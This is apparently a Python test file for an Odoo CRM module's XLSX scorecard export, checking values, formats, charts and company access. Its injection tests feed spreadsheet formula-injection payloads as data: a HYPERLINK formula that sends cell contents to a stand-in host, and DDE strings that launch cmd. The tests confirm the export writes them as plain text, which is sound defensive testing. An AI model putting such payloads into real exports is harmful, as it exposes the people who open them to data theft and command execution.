# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import io
import re
import zipfile

import openpyxl

from odoo.exceptions import AccessError
from odoo.tests import new_test_user, tagged

from .common_operations import CrmSuccessOperationsCase

REPORT = "crm_success_metrics.scorecard_xlsx"


@tagged("post_install", "-at_install")
class TestScorecardXlsx(CrmSuccessOperationsCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        revenue_kpi = cls.env["crm.success.kpi"].search(
            [("code", "=", "sales_revenue")]
        )
        cls.revenue = cls._create_objective(
            cls.company, "More revenue", kpi=revenue_kpi
        )
        # Baseline: 36,500 over the 365 days of 2025, i.e. 100 a day.
        cls.revenue.write({"baseline_value": 36500.0, "target_value": 73000.0})
        cls._confirmed_order(cls.company, "2026-01-10 10:00:00", price=100.0)
        cls._confirmed_order(cls.company, "2026-02-03 10:00:00", price=100.0)
        cls._confirmed_order(cls.company, "2026-02-20 10:00:00", price=300.0)
        Scorecard = cls.env["crm.success.scorecard"]
        cls.january = Scorecard.compute_period(
            "2026-01-01", "2026-01-31", company=cls.company, period_type="month"
        )
        cls.february = Scorecard.compute_period(
            "2026-02-01", "2026-02-28", company=cls.company, period_type="month"
        )

    def _render(self, scorecards):
        content, report_format = self.env["ir.actions.report"]._render_xlsx(
            REPORT, scorecards.ids, None
        )
        self.assertEqual(report_format, "xlsx")
        return content

    def test_scorecard_sheet(self):
        workbook = openpyxl.load_workbook(io.BytesIO(self._render(self.february)))
        self.assertEqual(workbook.sheetnames, ["Scorecard", "Trend", "Definitions"])
        sheet = workbook["Scorecard"]
        self.assertEqual(
            [cell.value for cell in sheet[4]][:13],
            [
                "Objective",
                "KPI",
                "Unit",
                "Value",
                "Baseline",
                "Target",
                "Last Year",
                "Change vs Baseline",
                "Change vs Baseline (%)",
                "Progress (%)",
                "Status",
                "p-value",
                "Warnings",
            ],
        )
        rows = {row[0].value: row for row in sheet.iter_rows(min_row=5)}
        orders, revenue = rows["More orders"], rows["More revenue"]
        # Orders: 2 in February; baseline 365 and target 730 a year, scaled to
        # 28 days: 28 and 56.
        self.assertEqual(orders[3].value, 2)
        self.assertAlmostEqual(orders[4].value, 28.0)
        self.assertAlmostEqual(orders[5].value, 56.0)
        # Change: 2 - 28 = -26; progress (2 - 28) / (56 - 28) = -92.86 %.
        self.assertAlmostEqual(orders[7].value, -26.0)
        self.assertAlmostEqual(orders[9].value, -26 / 28 * 100, places=6)
        # Revenue: 100 + 300 untaxed; baseline 100 a day x 28 days = 2800.
        self.assertAlmostEqual(revenue[3].value, 400.0)
        self.assertAlmostEqual(revenue[4].value, 2800.0)
        # Each value in its unit: whole orders, dollars of the company currency,
        # progress in bounded percents; the exact progress in the last column.
        self.assertEqual(
            [orders[col].number_format for col in (3, 4, 5)], ["#,##0"] * 3
        )
        self.assertEqual(revenue[3].number_format, '"$"\N{NO-BREAK SPACE}#,##0.00')
        self.assertEqual(orders[9].number_format, '0" %"')
        self.assertEqual(sheet.cell(4, 14).value, "Exact Progress (%)")
        self.assertAlmostEqual(orders[13].value, -26 / 28 * 100, places=6)
        # Both are below their baseline while time passes: off track, in red.
        self.assertEqual(orders[10].value, "Off Track")
        self.assertEqual(orders[10].fill.fgColor.rgb, "FFFFC7CE")
        self.assertEqual(sheet["A2"].value, "Success index")

    def test_trend_sheet_and_chart(self):
        content = self._render(self.february)
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Trend"]
        # Values block: header row 2, then January and February in rows 3 and 4.
        self.assertEqual(sheet["A2"].value, "Period")
        self.assertEqual(
            [sheet["B2"].value, sheet["C2"].value], ["More orders", "More revenue"]
        )
        self.assertEqual(sheet["A3"].value, "January 2026")
        self.assertEqual([sheet["B3"].value, sheet["C3"].value], [1, 100])
        self.assertEqual([sheet["B4"].value, sheet["C4"].value], [2, 400])
        self.assertEqual(sheet["C4"].number_format, '"$"\N{NO-BREAK SPACE}#,##0.00')
        # Targets below (2 periods + 3 rows down), scaled to each month:
        # orders 730 a year, 62 in January's 31 days, 56 in February's 28.
        self.assertEqual(sheet["A6"].value, "Target")
        self.assertEqual([sheet["B8"].value, sheet["B9"].value], [62, 56])
        # Then the progress, bounded: January orders, baseline 31 and target
        # 62: (1 - 31) / (62 - 31) = -96.77 %.
        self.assertEqual(sheet["A11"].value, "Progress (%)")
        self.assertAlmostEqual(sheet["B13"].value, -30 / 31 * 100, places=6)
        # One small native line chart per objective (openpyxl does not read
        # charts back): its value and its target, never another objective's.
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            charts = sorted(
                name for name in archive.namelist() if name.startswith("xl/charts/")
            )
            orders_chart = archive.read("xl/charts/chart1.xml").decode()
            revenue_chart = archive.read("xl/charts/chart2.xml").decode()
        self.assertEqual(charts, ["xl/charts/chart1.xml", "xl/charts/chart2.xml"])
        self.assertIn("<c:lineChart>", orders_chart)
        orders_refs = re.findall("<c:f>(.*?)</c:f>", orders_chart)
        self.assertIn("Trend!$B$3:$B$4", orders_refs)  # values
        self.assertIn("Trend!$B$8:$B$9", orders_refs)  # targets
        self.assertIn("Trend!$B$2", orders_refs)  # title: the objective's header
        self.assertNotIn("Trend!$C$3:$C$4", orders_refs)
        self.assertIn("Trend!$C$8:$C$9", re.findall("<c:f>(.*?)</c:f>", revenue_chart))
        # The revenue axis is in dollars, like its cells.
        self.assertIn('formatCode="&quot;$&quot;', revenue_chart)

    def test_trend_is_limited_to_earlier_periods(self):
        sheet = openpyxl.load_workbook(io.BytesIO(self._render(self.january)))["Trend"]
        # Only January: February is later than the exported scorecard.
        self.assertEqual(sheet["A3"].value, "January 2026")
        self.assertIsNone(sheet["A4"].value)

    def test_definitions_sheet(self):
        sheet = openpyxl.load_workbook(io.BytesIO(self._render(self.february)))[
            "Definitions"
        ]
        rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
        self.assertEqual(set(rows), {"orders_count", "sales_revenue"})
        self.assertEqual(rows["orders_count"][6].value, self.orders_kpi.description)
        self.assertTrue(rows["orders_count"][6].value)

    def test_report_is_a_print_action_of_scorecards(self):
        report = self.env.ref("crm_success_metrics.crm_success_scorecard_xlsx_report")
        self.assertEqual(report.binding_model_id.model, "crm.success.scorecard")
        self.assertEqual(report.report_type, "xlsx")

    def test_export_as_user_of_the_company_only(self):
        def user(login, company):
            return new_test_user(
                self.env,
                login=login,
                groups="base.group_user,crm_success_metrics.crm_success_metrics_group_user",
                company_id=company.id,
                company_ids=[company.id],
            )

        reader = user("success_xlsx_reader", self.company)
        content, _format = (
            self.env["ir.actions.report"]
            .with_user(reader)
            ._render_xlsx(REPORT, self.february.ids, None)
        )
        sheet = openpyxl.load_workbook(io.BytesIO(content))["Scorecard"]
        self.assertEqual(sheet["A5"].value, "More orders")
        outsider = user(
            "success_xlsx_outsider", self._create_company("Success Xlsx Other Co")
        )
        with self.assertRaises(AccessError):
            self.env["ir.actions.report"].with_user(outsider)._render_xlsx(
                REPORT, self.february.ids, None
            )

    def test_last_status(self):
        # February, the latest line, is off track (the conflicts list shows it)
        self.assertEqual(self.objective.last_status, "off_track")
        other = self._create_objective(self.company, "No history yet")
        self.assertFalse(other.last_status)


@tagged("post_install", "-at_install")
class TestScorecardXlsxInjection(CrmSuccessOperationsCase):
    """User-typed text is written as text: a spreadsheet never runs it."""

    HYPERLINK = '=HYPERLINK("http://x.example/?d="&B2,"x")'
    DESCRIPTIONS = ("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.objective.name = cls.HYPERLINK
        for index, description in enumerate(cls.DESCRIPTIONS):
            kpi = cls.env["crm.success.kpi"].create(
                {
                    "code": f"test_injection_{index}",
                    "name": description,
                    "description": description,
                    "handler": "orders_count",
                }
            )
            cls._create_objective(cls.company, description, kpi=kpi)
        cls._confirmed_order(cls.company, "2026-01-10 10:00:00")
        cls.january = cls.env["crm.success.scorecard"].compute_period(
            "2026-01-01", "2026-01-31", company=cls.company, period_type="month"
        )

    def assertText(self, cell, text):
        self.assertEqual((cell.value, cell.data_type), (text, "s"), cell.coordinate)

    def test_user_text_is_written_as_strings(self):
        content = self.env["ir.actions.report"]._render_xlsx(
            REPORT, self.january.ids, None
        )[0]
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        scorecard = workbook["Scorecard"]
        rows = {row[0].value: row for row in scorecard.iter_rows(min_row=5)}
        self.assertText(rows[self.HYPERLINK][0], self.HYPERLINK)
        for description in self.DESCRIPTIONS:
            self.assertText(rows[description][0], description)  # objective
            self.assertText(rows[description][1], description)  # KPI name
        trend_headers = {cell.value: cell for cell in workbook["Trend"][2]}
        self.assertText(trend_headers[self.HYPERLINK], self.HYPERLINK)
        definitions = {
            row[0].value: row for row in workbook["Definitions"].iter_rows(min_row=2)
        }
        for index, description in enumerate(self.DESCRIPTIONS):
            row = definitions[f"test_injection_{index}"]
            self.assertText(row[1], description)
            self.assertText(row[6], description)
        # The objective's chart is titled by a reference to its header cell,
        # never by the user's text read as a formula.
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            chart = archive.read("xl/charts/chart1.xml").decode()
        references = re.findall("<c:f>(.*?)</c:f>", chart)
        self.assertIn("Trend!$B$2", references)  # the header, the chart's title
        self.assertIn("Trend!$B$3", references)  # January's value
        self.assertIn("Trend!$B$7", references)  # and its target
        self.assertTrue(all(ref.startswith("Trend!$") for ref in references))
